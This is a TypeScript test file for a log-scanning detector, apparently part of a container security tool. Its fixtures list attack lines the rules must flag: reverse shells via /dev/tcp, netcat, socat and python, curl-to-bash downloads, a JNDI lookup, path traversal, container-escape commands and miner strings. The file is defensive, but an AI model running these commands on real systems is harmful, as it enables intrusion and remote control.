import { describe, expect, it } from 'vitest';
import { container } from '../../../test/support/host-facts.js';
import { SEVERITIES } from '../../model/severity.js';
import { BUILT_IN_LOG_RULES, BUILT_IN_RULES_YAML } from './built-in-rules.js';
import { LogMatcher } from './log-matcher.js';
import { parseLogRules } from './parse-log-rules.js';
import { runtimeFindings } from './runtime-findings.js';
import { stateMatches } from './state-matches.js';

const matcher = new LogMatcher(BUILT_IN_LOG_RULES);
const found = (...lines: string[]) =>
  matcher.match(lines.map((text) => ({ text, at: null }))).map(({ rule }) => rule.id);

describe('the rules that are built in', () => {
  it('are understood, each with an id, a title and a severity', () => {
    expect(parseLogRules(BUILT_IN_RULES_YAML).errors).toEqual([]);
    expect(new Set(BUILT_IN_LOG_RULES.map(({ id }) => id)).size).toBe(BUILT_IN_LOG_RULES.length);
    for (const { id, severity, test } of BUILT_IN_LOG_RULES) {
      expect(id).toMatch(/^[a-z]+(?:-[a-z]+)*$/);
      expect(SEVERITIES).toContain(severity);
      // Else each line of each log is looked at by it.
      expect(test.anchors, id).not.toBeNull();
    }
  });

  it.each<[rule: string, line: string]>([
    ['login-failures', 'sshd[42]: Failed password for root from 203.0.113.9 port 4711 ssh2'],
    ['login-failures', 'sshd[42]: Invalid user admin from 203.0.113.9'],
    ['login-failures', 'login[1]: pam_unix(login:auth): authentication failure; logname=LOGIN uid=0'],
    ['login-failures', '{"level":"warn","msg":"Login failed","user":"bob"}'],
    ['login-failures', '2026/11/24 12:00:00 [auth] invalid credentials for bob@example.com'],
    ['database-login-failures', 'FATAL:  password authentication failed for user "app"'],
    ['database-login-failures', "[Note] Access denied for user 'root'@'10.0.0.9' (using password: YES)"],
    ['database-login-failures', '-WRONGPASS invalid username-password pair or user is disabled.'],
    ['reverse-shell', 'sh: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    ['reverse-shell', 'exec: nc -e /bin/sh 203.0.113.9 4444'],
    ['reverse-shell', 'exec: ncat 203.0.113.9 4444 --exec /bin/bash'],
    ['reverse-shell', 'socat tcp-connect:203.0.113.9:4444 exec:sh,pty,stderr'],
    ['reverse-shell', `python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0);os.system("/bin/sh")'`],
    [
      'shell-spawned',
      '{"rule":"Terminal shell in container","output":"A shell was spawned in a container with an attached terminal"}',
    ],
    ['shell-spawned', '203.0.113.9 - - "GET /cgi-bin/x?c=;/bin/sh+-c+id HTTP/1.1" 200 12'],
    ['program-crash', 'panic: runtime error: invalid memory address or nil pointer dereference'],
    ['program-crash', 'Segmentation fault (core dumped)'],
    ['program-crash', "thread 'main' panicked at src/main.rs:4:5:"],
    ['out-of-memory', 'Memory cgroup out of memory: Killed process 4242 (java) total-vm:1234kB'],
    ['out-of-memory', 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'],
    ['out-of-memory', 'MemoryError'],
    ['privilege-escalation', 'sudo:  app : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash'],
    ['privilege-escalation', 'sudo: app : user NOT in sudoers ; TTY=pts/0'],
    ['download-to-shell', 'sh -c "curl -fsSL http://203.0.113.9/i.sh | bash"'],
    ['download-to-shell', 'echo aWQ= | base64 -d | sh'],
    ['download-to-shell', 'GET /x?cmd=wget%20http://203.0.113.9/a%20-O%20/tmp/a;chmod%20777%20/tmp/a HTTP/1.1'],
    ['crypto-miner', ' * POOL #1 stratum+tcp://pool.example:3333 algo rx/0'],
    ['crypto-miner', 'XMRig/6.21.0 gcc/12.2.0'],
    ['container-escape', 'nsenter --target 1 --mount --uts -- bash'],
    ['container-escape', 'echo /cmd > /sys/fs/cgroup/rdma/release_agent'],
    ['exploit-requests', `GET /?x=$${'{jndi'}:ldap://203.0.113.9/a} HTTP/1.1`],
    ['exploit-requests', 'GET /static/../../../etc/passwd HTTP/1.1'],
  ])('%s finds %j', (rule, line) => {
    expect(found(line)).toContain(rule);
  });

  it.each([
    'GET /login HTTP/1.1 200',
    'sshd[42]: Accepted publickey for deploy from 10.0.0.2',
    'user bob logged in',
    'connected to database as app',
    'curl/7.88.1 "GET /health HTTP/1.1" 200',
    'wrote 12 kB to /tmp/x | next job',
    'sync - done, async -exec queue is empty',
    'memory: 512 MiB of 1 GiB used',
    'permission denied: /root/.cache',
    'starting nginx: worker process 7',
    'panicking is not an option',
    '{"level":"info","msg":"request","path":"/","status":200}',
    'shutting down: /bin/sh is not needed',
  ])('find nothing in %j', (line) => {
    expect(found(line)).toEqual([]);
  });

  it('find that access was denied when it is often', () => {
    expect(found(...Array.from({ length: 19 }, () => 'open: permission denied'))).toEqual([]);
    expect(found(...Array.from({ length: 20 }, () => 'open: permission denied'))).toEqual(['access-denied-burst']);
  });

  it('look at 5,000 lines in a moment', () => {
    const lines = Array.from(
      { length: 5_000 },
      (_, i) => `10.0.0.${i % 250} - - [24/Nov/2026] "GET /a/${i} HTTP/1.1" 200 ${i} "-" "curl/7"`,
    );
    const start = performance.now();
    expect(found(...lines)).toEqual([]);
    expect(performance.now() - start).toBeLessThan(3_000);
  });
});

describe('stateMatches', () => {
  it('tells of loops and of kills for want of memory', () => {
    const matches = stateMatches([
      container('calm', { restarts: 4 }),
      container('often', { restarts: 5, exitCode: 1 }),
      container('now', { restarts: 1, status: 'restarting' }),
      container('killed', { oomKilled: true, memory: 64 * 2 ** 20, exitCode: 137 }),
    ]);
    expect(matches.map(({ containerName, ruleId, count, excerpt }) => [containerName, ruleId, count, excerpt])).toEqual(
      [
        ['often', 'restart-loop', 5, 'The engine started it again 5 times; it is running, exit code 1.'],
        ['now', 'restart-loop', 1, 'The engine started it again 1 times; it is restarting.'],
        ['killed', 'oom-killed', 1, 'OOMKilled: true; its limit is 64 MiB; exit code 137.'],
      ],
    );
  });
});

describe('runtimeFindings', () => {
  it('has one for each rule and container', () => {
    const match = (containerName: string, ruleId: string, count: number) => ({
      ruleId,
      title: ruleId,
      severity: 'high' as const,
      containerId: `${containerName}-id`,
      containerName,
      count,
      firstAt: null,
      lastAt: null,
      excerpt: 'x',
    });
    const findings = runtimeFindings([match('b', 'r', 1), match('a', 's', 2), match('a', 'r', 3), match('a', 'r', 4)]);
    expect(findings.map(({ resource, ruleId, count }) => [resource, ruleId, count])).toEqual([
      ['container/a', 'r', 7],
      ['container/a', 's', 2],
      ['container/b', 'r', 1],
    ]);
  });
});
